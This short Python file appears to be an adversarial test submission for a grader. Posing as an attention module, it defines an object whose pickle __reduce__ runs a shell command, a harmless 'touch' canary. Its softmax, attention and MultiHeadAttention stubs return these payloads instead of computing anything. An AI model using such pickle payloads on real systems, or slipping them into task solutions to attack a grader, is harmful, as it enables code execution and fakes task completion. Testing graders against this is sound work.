# target: section2/attention.py
"""Returns pickles (and objects with __reduce__) that would run code in the grader if
it ever unpickled them."""

import os
import pickle


class Exploit:
    def __reduce__(self):
        return (os.system, ("touch /tmp/llmkit-unpickled",))


PAYLOAD = pickle.dumps(Exploit())


def softmax(x, dim=-1):
    return PAYLOAD


def scaled_dot_product_attention(q, k, v, mask=None, is_causal=False):
    return Exploit()


class MultiHeadAttention:
    def __init__(self, *args, **kwargs):
        pass

    def __call__(self, *args, **kwargs):
        return [PAYLOAD, Exploit()]

    def load_state_dict(self, *args, **kwargs):
        return None
